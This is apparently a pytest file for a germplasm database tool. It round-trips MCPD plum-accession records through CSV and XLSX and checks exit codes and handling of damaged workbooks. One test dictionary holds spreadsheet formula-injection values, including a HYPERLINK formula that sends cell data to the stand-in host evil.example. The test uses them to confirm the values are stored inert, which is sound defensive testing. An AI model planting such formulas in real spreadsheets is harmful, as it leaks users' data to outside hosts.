"""The real `germplasm` console script in a subprocess, on fresh databases."""
import csv

import pytest

from tests.databases import fresh_database
from tests.processes import germplasm

pytestmark = pytest.mark.no_db

FULL_ROW = {
    "PUID": "https://doi.org/10.18730/ABC12", "INSTCODE": "CHN385", "ACCENUMB": "WSL00001",
    "COLLNUMB": "WS-2019-07", "COLLCODE": "CHN385;CHN001", "COLLNAME": "",
    "COLLINSTADDRESS": "", "COLLMISSID": "三峡李资源考察2019", "GENUS": "Prunus",
    "SPECIES": "salicina", "SPAUTHOR": "Lindl.", "SUBTAXA": "", "SUBTAUTHOR": "",
    "CROPNAME": "plum", "ACCENAME": "巫山脆李;Wūshān Cuìlǐ", "ACQDATE": "2019----",
    "ORIGCTY": "CHN", "COLLSITE": "重庆市巫山县曲尺乡", "DECLATITUDE": "31.075",
    "LATITUDE": "310430N", "DECLONGITUDE": "109.875", "LONGITUDE": "1095230E",
    "COORDUNCERT": "30", "COORDDATUM": "WGS84", "GEOREFMETH": "GPS", "ELEVATION": "620",
    "COLLDATE": "201907--", "BREDCODE": "", "BREDNAME": "", "SAMPSTAT": "300",
    "ANCEST": "", "COLLSRC": "22", "DONORCODE": "CHN001", "DONORNAME": "",
    "DONORNUMB": "D-17", "OTHERNUMB": "CHN001:P-1234;:ZJ-55", "DUPLSITE": "CHN001",
    "DUPLINSTNAME": "国家果树种质重庆李圃", "STORAGE": "20;30", "MLSSTAT": "0",
    "REMARKS": "COLLSRC:farmer's orchard", "DOI": "10.18730/ABC12", "HISTORIC": "N",
    "RESTRICTED": "Y",
}
CHILD_ROW = FULL_ROW | {"ACCENUMB": "WSL00002", "ACCENAME": "巫脆1号", "SAMPSTAT": "412",
                        "ANCEST": "巫山脆李 × Santa Rosa", "ACQDATE": "20210512",
                        "HISTORIC": "Y", "RESTRICTED": "N", "DECLATITUDE": "",
                        "LATITUDE": "", "DECLONGITUDE": "", "LONGITUDE": "", "OTHERNUMB": ""}


def write_rows(path, rows):
    """Rows as our CSV export writes them (formula-like cells behind an apostrophe)."""
    from loaders.cells import csv_value

    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(FULL_ROW))
        writer.writeheader()
        writer.writerows({k: csv_value(v) for k, v in row.items()} for row in rows)
    return path


def test_init_is_safe_to_run_again(fresh_db):
    again = germplasm(fresh_db, "init")
    assert "279 countries" in again.stdout


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_import_export_gives_the_same_rows(tmp_path, fresh_db, fmt):
    first, second = round_trip(tmp_path, fresh_db, fmt, [FULL_ROW, CHILD_ROW])
    assert read(first) == read(second)
    exported = read(first)
    assert exported[0] == FULL_ROW | {"LATITUDE": "310430N"}
    assert exported[1]["ACQDATE"] == "20210512" and exported[1]["HISTORIC"] == "Y"


def round_trip(tmp_path, url, fmt, rows):
    """Import rows, export them (first), import that into an empty database, export (second)."""
    germplasm(url, "import", "mcpd", write_rows(tmp_path / "source.csv", rows))
    first, second = tmp_path / f"first.{fmt}", tmp_path / f"second.{fmt}"
    germplasm(url, "export", "mcpd", first)
    with fresh_database(tmp_path) as empty:
        germplasm(empty, "init")
        germplasm(empty, "import", "mcpd", first)
        germplasm(empty, "export", "mcpd", second)
    return first, second


def read(path):
    if path.suffix == ".xlsx":
        from loaders.tabular import read_table

        table = read_table(path)
        return [dict(zip(table.headers, cells, strict=False)) for _, cells in table.rows]
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM Excel needs
    with path.open(encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def test_exit_codes_and_no_traceback(tmp_path, fresh_db):
    bad = write_rows(tmp_path / "bad.csv", [FULL_ROW | {"ORIGCTY": "XYZ"}])
    rejected = germplasm(fresh_db, "import", "mcpd", bad, check=False)
    assert rejected.returncode == 3 and "row 2 ORIGCTY 'XYZ'" in rejected.stdout
    (tmp_path / "empty.csv").write_bytes(b"")
    unreadable = germplasm(fresh_db, "import", "mcpd", tmp_path / "empty.csv", check=False)
    assert unreadable.returncode == 2 and "empty" in unreadable.stderr
    wrong_args = germplasm(fresh_db, "import", "mcpd", check=False)
    assert wrong_args.returncode == 2
    for result in (rejected, unreadable, wrong_args):
        assert "Traceback" not in result.stdout + result.stderr


def test_flask_cli_commands_are_there(fresh_db):
    assert "accessions.detail" in germplasm(fresh_db, "routes").stdout
    assert germplasm(fresh_db, "db", "current").returncode == 0


FORMULAS = {"ACCENAME": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "COLLNUMB": "-2+3", "DONORNUMB": "@SUM(A1)", "REMARKS": "'=quoted already",
            "COLLSITE": "+86 village"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_values_are_inert_and_survive_a_round_trip(tmp_path, fresh_db, fmt):
    first, second = round_trip(tmp_path, fresh_db, fmt, [FULL_ROW | FORMULAS])
    assert read(first) == read(second)
    if fmt == "csv":  # OWASP: a leading apostrophe, removed again by the importer
        raw = list(csv.DictReader(first.open(encoding="utf-8")))[0]
        assert {k: raw[k] for k in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
    else:
        assert "<f>" not in sheet_xml(first)
        assert {k: read(first)[0][k] for k in FORMULAS} == FORMULAS


def sheet_xml(path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return "".join(archive.read(n).decode("utf-8") for n in names)


def test_damaged_workbooks_exit_2_with_a_message(tmp_path, fresh_db):
    import zipfile

    from openpyxl import Workbook

    good = tmp_path / "good.xlsx"
    workbook = Workbook()
    workbook.active.append(["INSTCODE", "ACCENUMB", "GENUS"])
    for number in range(3000):
        workbook.active.append(["CHN385", f"T{number}", "Prunus"])
    workbook.save(good)
    truncated, junk = tmp_path / "truncated.xlsx", tmp_path / "junk.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(truncated, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            cut = item.filename == "xl/worksheets/sheet1.xml"
            target.writestr(item.filename, data[: len(data) // 2] if cut else data)
    with zipfile.ZipFile(junk, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    for path in (truncated, junk):
        result = germplasm(fresh_db, "import", "mcpd", path, check=False)
        assert result.returncode == 2, result.stdout + result.stderr
        assert "not a readable .xlsx workbook" in result.stderr
        assert "Traceback" not in result.stdout + result.stderr
    assert "0 accessions" in germplasm(fresh_db, "search").stdout  # nothing half-written
